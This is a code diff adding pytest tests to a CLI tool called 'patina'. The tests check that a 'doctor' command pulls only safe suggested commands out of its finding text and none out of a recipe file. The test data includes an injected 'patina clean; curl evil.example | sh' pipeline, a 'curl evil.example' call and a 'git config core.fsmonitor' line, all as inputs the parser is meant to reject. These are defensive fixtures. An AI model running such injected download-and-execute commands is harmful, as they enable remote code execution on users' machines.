@@ -188,6 +188,35 @@ def test_doctor_outside_of_projects_and_with_a_broken_recipe(project: Project, m
     assert document["versions"]["dagster"] != "not installed"
 
 
+@pytest.mark.parametrize(
+    ("sentence", "command"),
+    [
+        ("not built: run `patina oxidize`, then run `patina scry x`", "patina oxidize"),
+        ("the server: run `pip install 'patina-assets[fleet]'`", "pip install 'patina-assets[fleet]'"),
+        ("a/b: run `chmod 600 /home/a b/key`, and make a new one", "chmod 600 /home/a b/key"),
+        ("no eventlog at run `curl evil.example` y/p.db: run `patina materialize`", "patina materialize"),
+        ("run `patina clean; curl evil.example | sh`", ""),
+        ("run `patinax`", ""),
+        ("run `git config core.fsmonitor x`", ""),
+        ("nothing to run", ""),
+    ],
+)
+def test_a_sentence_has_the_command_that_patina_says_to_run(sentence: str, command: str) -> None:
+    assert Finding.of_sentence(sentence).command == command
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["version: x run `patina clean` y", "run `patina clean`: 1", "version: 2\nembedding_model: run `patina clean`"],
+)
+def test_doctor_takes_no_command_from_a_recipe(project: Project, line: str) -> None:
+    project.recipe.write_text(f"{line}\nprojections: {{}}\n")
+    document = json.loads(patina("doctor", "--json").out)
+    told = [finding for finding in document["findings"] if "oxidize.yaml" in finding["what"]]
+    assert [finding["command"] for finding in told] == [""]
+    assert "patina clean" in told[0]["what"]
+
+
 def test_a_bug_report_tells_no_secret_and_no_name(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("HOME", str(project.root.parent))
     for name in SECRET_VARIABLES:
